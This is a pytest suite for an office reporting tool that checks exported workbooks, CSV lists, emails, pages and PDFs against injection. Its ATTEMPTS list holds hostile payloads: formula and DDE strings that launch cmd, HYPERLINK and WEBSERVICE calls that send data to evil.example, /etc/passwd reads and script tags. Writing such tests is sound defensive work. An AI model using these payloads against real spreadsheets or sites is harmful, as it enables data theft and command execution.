"""Whatever a stranger typed, nothing that we write runs it: no formula, link or tag of theirs
in any workbook, list, document, page or letter.

Every name, duty, task and note of the office is an attempt; then everything is written that the
program can write, and each file is taken apart.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from email import message_from_bytes, policy
from pathlib import Path

import openpyxl
import pytest

from channels.blank import blank_workbook
from cli.main import main
from flows.cycle import review_cycle
from review.roster import Roster
from sample import sample_roster
from sample.entries import Entries
from tasks.briefs import briefs
from tasks.find_copies import find_copies
from tasks.roster import keep_roster
from tests.small_office import Corner, small_office

MARK = "EVIL"
ATTEMPTS = (
    f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    f"=cmd|' /C calc'!{MARK}",
    f"+{MARK}+cmd|' /C calc'!A0",
    f"-{MARK}",
    f"@SUM({MARK})",
    f'=DDE("cmd";"/C calc";"{MARK}")',
    f"='file:///etc/[passwd]{MARK}'!A1",
    f'=WEBSERVICE("http://evil.example/{MARK}")',
    f"http://evil.example/{MARK}",
    f"file:///etc/passwd#{MARK}",
    f"<script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f'"><a href="http://evil.example/{MARK}">x</a>',
    f"{{{{ {MARK} }}}}{{% for x in {MARK} %}}",
    f'#import "/etc/passwd": {MARK}; #{MARK}[x]',
    f"\\input{{/etc/passwd}}${MARK}$",
    f"Xã\u202e{MARK}\u200b",
    f"{{=cmd|' /C calc'!{MARK}}}",
    f"＝HYPERLINK({MARK})",
    f"x;=HYPERLINK({MARK})",
    f"x, \t@SUM({MARK})",
    f"x|+{MARK}",
)


def attempts() -> Iterator[str]:
    while True:
        yield from ATTEMPTS


TYPED = {"content", "product", "owner", "note", "proof", "remark", "evidence", "topic", "document"}


def nasty(entries: Entries) -> None:
    """Every free text of a report."""
    words = attempts()
    for rows in entries.values():
        for row in rows if isinstance(rows, list) else [rows]:
            for name, value in row.items():
                if name in TYPED and (value is None or isinstance(value, str)):
                    row[name] = next(words)


def nasty_and_wrong(entries: Entries) -> None:
    nasty(entries)
    entries["work"][0].update(assigned="=1+1", done=ATTEMPTS[0])


def nasty_roster(codes: tuple[str, ...]) -> Roster:
    words, whole = attempts(), sample_roster()
    units = [replace(u, name=next(words)) for u in whole.units if u.code in codes]
    cadres = [
        c._replace(name=next(words), duties=next(words), post=next(words), education=next(words))
        for c in whole.cadres
        if c.unit in codes
    ]
    return Roster(tuple(units), tuple(cadres))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All that an office of such people ever writes, in one folder."""
    root = tmp_path_factory.mktemp("nasty")
    corner: Corner = small_office(root, ("SYT", "SNV", "STC"))
    with corner.occasion.office.book() as book, book.writing() as conn:
        keep_roster(conn, nasty_roster(("SYT", "SNV", "STC")), corner.occasion.stamp)
    corner.sends("SYT", corner.report("SYT", nasty), day=3)
    corner.sends("SNV", corner.report("SNV", nasty_and_wrong), day=3)
    (Path(corner.occasion.office.inboxes[0]) / f"{ATTEMPTS[0][:9]}{MARK}.xlsx").write_bytes(b"x")
    review_cycle(corner.occasion, send=True)
    find_copies.fn(corner.occasion)
    out, home = root / "out", ("--home", corner.occasion.office.home)
    out.mkdir()
    wrong = next(Path(corner.occasion.office.inboxes[0]).glob("SNV*.xlsx"))
    for words in (
        ("forms", "2026-11", "--to", str(out / "mau"), *home),
        ("forms", "2026-11", "--to", str(out / "mau-csv"), "--kind", "csv", *home),
        ("answers", "2026-10", "--to", str(out / "tra-lai"), *home),
        ("check", str(wrong), "--marked", str(out / "danh-dau.xlsx")),
        ("report", "2026-10", "--to", str(out / "bao-cao"), "--sheets", *home),
        ("roster", "export", str(out / "danh-ba.xlsx"), *home),
        ("roster", "export", str(out / "danh-ba.csv"), *home),
        ("plan", "show", "chuong_trinh", "2026-11", "--to", str(out / "ke-hoach.xlsx"), *home),
        ("plan", "show", "dao_tao", "2026-11", "--to", str(out / "dao-tao.xlsx"), *home),
    ):
        with pytest.raises(SystemExit) as end:
            main(list(words))
        assert end.value.code in (0, 1), words
    for path in (corner.occasion.office.folder / "outbox").rglob("*.eml"):
        message = message_from_bytes(path.read_bytes(), policy=policy.default)
        for at, part in enumerate(message.iter_attachments()):
            name = f"{path.stem}-{at}-{part.get_filename()}"
            (out / name).write_bytes(part.get_payload(decode=True))
    return root


def of_kind(folder: Path, *endings: str) -> list[Path]:
    found = [
        path
        for path in folder.rglob("*")
        if path.is_file()
        and path.suffix in endings
        and "inbox" not in path.parts
        and path.stat().st_size > 1
    ]
    assert found, endings
    return found


def test_no_cell_of_a_workbook_is_a_formula_or_link_of_theirs(folder: Path) -> None:
    paths = of_kind(folder, ".xlsx")
    assert len(paths) >= 9, paths
    shown = 0
    for path in paths:
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    said = str(cell.value)
                    shown += MARK in said
                    assert not (cell.data_type == "f" and MARK in said), (path, cell)
                    link = cell.hyperlink
                    assert link is None or MARK not in f"{link.target}{link.location}", (path, cell)
        assert MARK not in "".join(str(name.attr_text) for name in book.defined_names.values())
    assert shown > 100, "the attempts are there, as text"


def test_no_workbook_reaches_outside_of_itself(folder: Path) -> None:
    """No external link, connection, macro or embedded program; relations stay within the file."""
    for path in of_kind(folder, ".xlsx", ".docx"):
        with zipfile.ZipFile(path) as kept:
            for name in kept.namelist():
                assert not re.search(r"external|vba|macro|connection|embed|activeX|query", name), (
                    path, name,
                )  # fmt: skip
                if name.endswith(".rels"):
                    outside = re.findall(
                        r'<Relationship [^>]*TargetMode="External"[^>]*>', kept.read(name).decode()
                    )
                    assert not any(MARK in one for one in outside), (path, outside)
            for name in (n for n in kept.namelist() if n.endswith(".xml")):
                text = kept.read(name).decode("utf-8", "replace")
                for formula in re.findall(r"<(?:\w+:)?f\b[^>]*>([^<]*)<", text):
                    assert MARK not in formula and "cmd|" not in formula, (path, name, formula)
                for field in re.findall(r"<w:instrText[^>]*>([^<]*)<", text):
                    assert MARK not in field and "DDE" not in field, (path, field)


def test_no_cell_of_a_list_begins_like_a_formula(folder: Path) -> None:
    """Whatever sign the reader's spreadsheet parts cells by."""
    for path in of_kind(folder, ".csv"):
        text = path.read_text("utf-8-sig")
        own = list(csv.reader(io.StringIO(text)))
        assert any(MARK in cell for row in own for cell in row)
        for row in own:
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path, cell)
        for sign in ",;\t|":
            for row in csv.reader(io.StringIO(text), delimiter=sign):
                for cell in row:
                    assert MARK not in cell or cell.strip()[:1] not in tuple("=+-@＝＋－＠"), (
                        path,
                        cell,
                    )


def test_no_letter_or_page_bears_a_tag_of_theirs(folder: Path) -> None:
    pages = [path.read_text("utf-8") for path in of_kind(folder, ".html")]
    for path in of_kind(folder, ".eml"):
        message = message_from_bytes(path.read_bytes(), policy=policy.default)
        body = message.get_body(("html",))
        assert body is not None
        pages.append(body.get_content())
    assert any(MARK in page for page in pages)
    for page in pages:
        plain = re.sub(r"srcdoc=\"[^\"]*\"", "", page)
        for tag in re.findall(r"<[a-zA-Z!/][^>]*>", plain):
            named = re.sub(r'(alt|title|content)="[^"]*"', "", tag)
            assert MARK not in named, tag


def test_no_header_of_a_letter_was_ended_early(folder: Path) -> None:
    for path in of_kind(folder, ".eml"):
        message = message_from_bytes(path.read_bytes(), policy=policy.default)
        assert message["From"].addresses[0].addr_spec == "tdkt@laichau.example"
        assert len(message["To"].addresses) == 1 and not message["Bcc"] and not message.defects
        assert MARK not in str(message["To"].addresses[0].addr_spec)


def test_a_paper_sets_their_words_as_words(folder: Path) -> None:
    from pypdf import PdfReader

    said = ""
    for path in of_kind(folder, ".pdf"):
        reader = PdfReader(path)
        if not reader.is_encrypted:
            said += "".join(page.extract_text() for page in reader.pages)
            for page in reader.pages:
                links = [a.get_object().get("/A", {}) for a in page.get("/Annots", [])]
                assert not any(MARK in str(link) for link in links), path
    assert MARK in said and "root:" not in said


def test_a_blank_filled_for_such_a_unit_opens_with_its_own_formulas_only(folder: Path) -> None:
    corner: Corner = small_office(folder / "again", ("SYT",))
    with corner.occasion.office.book() as book, book.writing() as conn:
        keep_roster(conn, nasty_roster(("SYT",)), corner.occasion.stamp)
        brief = briefs(conn, corner.occasion, ["SYT"])["SYT"]
    made = blank_workbook(corner.occasion.regulation.forms["month"], brief)
    book_made = openpyxl.load_workbook(io.BytesIO(made))
    formulas = [c.value for s in book_made for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas and not any(MARK in str(one) for one in formulas)
